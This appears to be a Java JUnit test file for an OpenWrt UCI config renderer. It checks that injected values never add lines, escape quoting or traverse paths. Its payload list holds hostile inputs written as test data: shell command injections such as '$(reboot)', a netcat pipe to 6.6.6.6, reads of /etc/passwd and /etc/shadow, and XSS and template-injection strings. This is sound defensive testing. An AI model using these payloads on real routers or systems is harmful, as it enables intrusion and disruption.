package io.langsong.netjson;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.langsong.testkit.Peers;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/** What somebody writes into a value never becomes more than that value. */
class InjectionTest {
    /** Meant for UCI, a shell, a template, a terminal, a tar, a path. */
    static final List<String> PAYLOADS = List.of(
            "it's",
            "'",
            "''",
            "'\\''",
            "' option x 'y",
            "x'\n\toption proto 'static",
            "x\nconfig interface 'evil'",
            "x\r\nlist dns '6.6.6.6'",
            "x\r\toption y 'z'",
            "x\0y",
            "x\u000by",
            "x\fy",
            "x\u0085option",
            "x\u2028option y",
            "x\u2029option y",
            "\u001b[2J",
            "\u0007",
            "\ud800",
            "\udc00x",
            "😀",
            "\"; reboot; \"",
            "$(reboot)",
            "`reboot`",
            "${IFS}x",
            "; reboot #",
            "| nc 6.6.6.6 1",
            "&& reboot",
            "# comment",
            "\\",
            "\\'",
            "\\\\",
            "x\\",
            "\\n\\toption x 'y'",
            "\"",
            "-e",
            "--help",
            "../../etc/passwd",
            "/etc/shadow",
            "%s%n%x",
            "<script>alert(1)</script>",
            "{{ name }}",
            "{{{{ name }}}}",
            "{% for x in y %}",
            "${7*7}",
            "#{7*7}",
            "*{7*7}",
            "package evil",
            "config evil",
            " leading and trailing ",
            "\t",
            "Sơn La – 'xã'");

    private static final int ROUNDS = 3_000;
    private static final String ALPHABET = "ab1 '\"\\\n\r\t;#$`{}()|&<>%-_./=:@\0\u0007\u001b\u0085\u2028éơ😀\ud800";

    @TempDir
    Path folder;

    private final OpenWrt openWrt = new OpenWrt(OpenWrt.Syntax.DSA);

    private static ObjectNode config(String json, String payload) {
        ObjectNode config = NetJson.read(json);
        return (ObjectNode) with(config, payload);
    }

    /** Puts it where a text is {@code @}. */
    private static JsonNode with(JsonNode node, String payload) {
        if (node instanceof ObjectNode object) {
            ObjectNode copy = JsonNodeFactory.instance.objectNode();
            object.properties()
                    .forEach(entry -> copy.set(
                            entry.getKey().equals("@") ? payload : entry.getKey(), with(entry.getValue(), payload)));
            return copy;
        }
        if (node.isArray()) {
            var copy = JsonNodeFactory.instance.arrayNode();
            node.forEach(item -> copy.add(with(item, payload)));
            return copy;
        }
        return node.isString() && node.stringValue().equals("@") ? JsonNodeFactory.instance.stringNode(payload) : node;
    }

    /** Everywhere that a text is taken from people. */
    static final List<String> PLACES = List.of(
            "{'custom':[{'config_name':'rule','config_value':'r','value':'@'}]}",
            "{'custom':[{'config_name':'rule','config_value':'r','list':['a','@']}]}",
            "{'custom':[{'config_name':'rule','config_value':'@','value':'x'}]}",
            "{'custom':[{'config_name':'@','config_value':'r','value':'x'}]}",
            "{'custom':[{'config_name':'rule','config_value':'r','@':'x'}]}",
            "{'@':[{'config_name':'rule','config_value':'r','value':'x'}]}",
            "{'general':{'hostname':'ap','description':'@'}}",
            "{'general':{'hostname':'@'}}",
            "{'general':{'hostname':'ap','id':'@'}}",
            "{'general':{'hostname':'ap','timezone':'@'}}",
            "{'led':[{'name':'@','sysfs':'@','trigger':'@'}]}",
            "{'interfaces':[{'name':'@','type':'ethernet'}]}",
            "{'interfaces':[{'name':'eth0','type':'ethernet','network':'@'}]}",
            "{'interfaces':[{'name':'eth0','type':'ethernet','anything':'@'}]}",
            "{'interfaces':[{'name':'eth0','type':'other','proto':'@'}]}",
            "{'interfaces':[{'name':'eth0','type':'dialup','proto':'pppoe','username':'@','password':'@'}]}",
            "{'interfaces':[{'name':'br0','type':'bridge','bridge_members':['@']}]}",
            "{'interfaces':[{'name':'wlan0','type':'wireless','wireless':{'radio':'radio0','mode':'access_point','ssid':'@'}}]}",
            "{'interfaces':[{'name':'wlan0','type':'wireless','wireless':{'radio':'@','mode':'access_point','ssid':'x','id':'@'}}]}",
            "{'interfaces':[{'name':'wlan0','type':'wireless','wireless':{'radio':'radio0','mode':'access_point','ssid':'x',"
                    + "'encryption':{'protocol':'wpa2_personal','key':'@'}}}]}",
            "{'interfaces':[{'name':'wg0','type':'wireguard','private_key':'@'}]}",
            "{'interfaces':[{'name':'vx0','type':'vxlan','vtep':'@','vni':'@'}]}",
            "{'radios':[{'name':'@','driver':'mac80211','protocol':'802.11n','channel':1,'channel_width':20,'phy':'@'}]}",
            "{'routes':[{'device':'@','destination':'10.0.0.0/8','next':'','cost':0}]}",
            "{'routes':[{'device':'x','destination':'@','next':'@','cost':0}]}",
            "{'ip_rules':[{'in':'@','lookup':'@'}]}",
            "{'ntp':{'enabled':true,'server':['@']}}",
            "{'dns_servers':['@'],'dns_search':['@'],'interfaces':[{'name':'eth0','type':'ethernet'}]}",
            "{'switch':[{'name':'@','reset':true,'enable_vlan':true,'vlan':[{'device':'@','vlan':1,'ports':'@'}]}]}",
            "{'openvpn':[{'name':'@','mode':'p2p','proto':'udp','dev':'@','tls_auth':'@','remote':[{'host':'@','port':1}]}]}",
            "{'openvpn':[{'name':'x','mode':'server','proto':'udp','dev':'tun0','data_ciphers':[{'cipher':'@'}]}]}",
            "{'wireguard_peers':[{'interface':'@','public_key':'@','allowed_ips':['@'],'endpoint_host':'@'}]}",
            "{'zerotier':[{'name':'@','config_path':'@','networks':[{'id':'9536600adf654321','ifname':'@'}]}]}",
            "{'files':[{'path':'@','mode':'0644','contents':'x'}]}",
            "{'files':[{'path':'/etc/x','mode':'@','contents':'@'}]}");

    static Stream<String> places() {
        return PLACES.stream().map(place -> place.replace('\'', '"'));
    }

    /** The sections and the names of their options do not depend on the payload, and our own parser reads the same tree. */
    private List<String> hold(String place, String payload) {
        List<String> lines = new ArrayList<>();
        Rendered rendered;
        try {
            rendered = openWrt.render(config(place, payload));
        } catch (NetJsonException refused) {
            assertThat(refused.problems())
                    .allSatisfy(one -> assertThat(one.text(Locale.ENGLISH))
                            .doesNotContain("\n", "\r", "\u001b", "\0")
                            .isNotBlank());
            return lines;
        }
        String text = rendered.packages().text();
        assertThat(UciParser.parse(text)).as("%s with %s", place, payload).isEqualTo(rendered.packages());
        text.lines().forEach(line -> {
            assertThat(line).matches("(package [\\w-]+|config [\\w.-]+ '\\w+'|\\t(option|list) \\w+ '.*'|)");
            assertThat(line.codePoints().filter(point -> point != '\t').noneMatch(Character::isISOControl))
                    .isTrue();
            lines.add(line);
        });
        rendered.archive().members().forEach(member -> {
            assertThat(member.name()).matches("[A-Za-z0-9_.-]+(/[A-Za-z0-9_.-]+)*");
            assertThat(("/" + member.name() + "/")).doesNotContain("/../", "/./", "//");
        });
        return lines;
    }

    @ParameterizedTest
    @FieldSource("PAYLOADS")
    void noPayloadAddsALine(String payload) {
        places().forEach(place -> hold(place, payload));
    }

    @Test
    void aSsidMayBeAlmostAnythingAndIsKept() {
        String place = PLACES.get(17).replace('\'', '"');
        for (String ssid : List.of("it's", "$(reboot)", "a\"b\\c", "# x", "Sơn La", "😀", "; x")) {
            ObjectNode back = openWrt.parse(openWrt.render(config(place, ssid)).packages());

            assertThat(back.at("/interfaces/0/wireless/ssid").stringValue()).isEqualTo(ssid);
        }
    }

    @Test
    void aValueWithALineEndIsRefusedWithItsPlace() {
        assertThatThrownBy(() -> openWrt.render(config(PLACES.get(17).replace('\'', '"'), "x\n\toption y 'z")))
                .hasMessageContaining("interfaces[0].wireless.ssid")
                .hasMessageContaining("line end");
    }

    /** The quotes of UCI are those of a shell, so another reader of such words reads them as well. */
    @Test
    void randomTextsAreReadBackByUsAndByAnotherReaderOfShellWords() throws Exception {
        Path python = Peers.require("python3", "python3");
        Random random = new Random(20261130);
        List<String> places = places().toList();
        List<String> lines = new ArrayList<>();
        int accepted = 0;
        for (int i = 0; i < ROUNDS; i++) {
            List<String> one = hold(places.get(random.nextInt(places.size())), text(random));
            accepted += one.isEmpty() ? 0 : 1;
            lines.addAll(one);
        }
        assertThat(accepted).as("of %d texts", ROUNDS).isGreaterThan(ROUNDS / 20);

        List<String> words = shellWords(python, lines);
        for (int i = 0; i < lines.size(); i++) {
            String line = lines.get(i);
            if (line.startsWith("\t")) {
                UciSection section = UciParser.parse("package p\nconfig t n\n" + line)
                        .sections("p")
                        .get(0);
                String option = section.options().firstKey();
                assertThat(words.get(i))
                        .as(line)
                        .isEqualTo(line.trim().split(" ")[0] + "\u0001" + option + "\u0001"
                                + section.options().get(option).text());
            }
        }
    }

    private static String text(Random random) {
        int[] alphabet = ALPHABET.codePoints().toArray();
        StringBuilder text = new StringBuilder();
        int length = random.nextInt(12);
        for (int i = 0; i < length; i++) {
            // Half of them may have what is refused.
            int most = random.nextBoolean() ? alphabet.length : 8;
            text.appendCodePoint(alphabet[random.nextInt(most)]);
        }
        return text.toString();
    }

    private List<String> shellWords(Path python, List<String> lines) throws IOException, InterruptedException {
        Path in = Files.write(folder.resolve("lines"), lines, StandardCharsets.UTF_8);
        Path out = folder.resolve("words");
        Process process = new ProcessBuilder(python.toString(), "-c", """
                        import shlex, sys
                        lines = open(sys.argv[1], encoding="utf-8", newline="\\n").read().split("\\n")[:-1]
                        with open(sys.argv[2], "w", encoding="utf-8", newline="\\n") as out:
                            for line in lines:
                                out.write("\\x01".join(shlex.split(line)) + "\\n")
                        """, in.toString(), out.toString())
                .redirectErrorStream(true)
                .start();
        String said = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(process.waitFor(60, TimeUnit.SECONDS)).isTrue();
        assertThat(process.exitValue()).as(said).isZero();
        return List.of(Files.readString(out).split("\n", -1));
    }

    /** Whatever a device has, it is read or refused in words; and what was read is rendered or refused in words. */
    @Test
    void randomUciIsReadOrRefused() {
        List<String> types = List.of(
                "system",
                "timeserver",
                "led",
                "interface",
                "device",
                "bridge-vlan",
                "route",
                "route6",
                "rule",
                "rule6",
                "switch",
                "switch_vlan",
                "globals",
                "wifi-device",
                "wifi-iface",
                "openvpn",
                "wireguard_wg0",
                "zerotier",
                "network",
                "zone");
        List<String> options = List.of(
                "name",
                "type",
                "proto",
                "device",
                "ifname",
                "ports",
                "vlan",
                "vid",
                "ipaddr",
                "netmask",
                "ip6addr",
                "gateway",
                "ip6gw",
                "dns",
                "dns_search",
                "enabled",
                "auto",
                "disabled",
                "macaddr",
                "mtu",
                "channel",
                "htmode",
                "hwmode",
                "band",
                "mode",
                "ssid",
                "network",
                "encryption",
                "key",
                "key1",
                "server",
                "auth_server",
                "wps_label",
                "target",
                "interface",
                "metric",
                "src",
                "tos",
                "remote",
                "tls_cipher",
                "data_ciphers",
                "status",
                "server_bridge",
                "join",
                "id",
                "local_conf",
                "addresses",
                "peeraddr",
                "timezone",
                "zonename",
                "hostname",
                "username",
                "password");
        List<String> values = List.of(
                "",
                "0",
                "1",
                "bridge",
                "8021q",
                "static",
                "dhcp",
                "wireguard",
                "vxlan",
                "pppoe",
                "exotic",
                "eth0",
                "br-lan",
                "br-lan.1",
                "wlan0",
                "10.0.0.1",
                "10.0.0.1/24",
                "255.255.0.0",
                "999.9.9.9",
                "fd00::1/64",
                "/",
                "lan1:t*",
                "auto",
                "HT20",
                "VHT80+",
                "psk2+ccmp",
                "sae",
                "wpa2",
                "wep-open",
                "none",
                "unheard-of",
                "s:abcde",
                "99999999999999999999",
                "it's",
                "vpn 1194 udp",
                "a:?b",
                "-1",
                "UTC",
                "ap",
                "sta",
                "x y z");
        Random random = new Random(7);
        int read = 0;
        for (int i = 0; i < ROUNDS; i++) {
            StringBuilder uci = new StringBuilder();
            for (String name : List.of("network", "wireless", "system", "openvpn", "zerotier")) {
                uci.append("package ").append(name).append('\n');
                for (int section = random.nextInt(5); section > 0; section--) {
                    uci.append("config ").append(types.get(random.nextInt(types.size())));
                    uci.append(random.nextInt(4) == 0 ? "" : " s" + random.nextInt(9))
                            .append('\n');
                    for (int option = random.nextInt(9); option > 0; option--) {
                        uci.append(random.nextInt(4) == 0 ? "list " : "option ")
                                .append(options.get(random.nextInt(options.size())))
                                .append(" \"")
                                .append(values.get(random.nextInt(values.size())))
                                .append("\"\n");
                    }
                }
            }
            try {
                ObjectNode config = openWrt.parse(uci.toString());
                read++;
                openWrt.render(config);
            } catch (NetJsonException refused) {
                assertThat(refused.problems()).isNotEmpty();
            } catch (RuntimeException bug) {
                throw new AssertionError("round " + i + ":\n" + uci, bug);
            }
        }
        assertThat(read).isGreaterThan(ROUNDS / 2);
    }
}
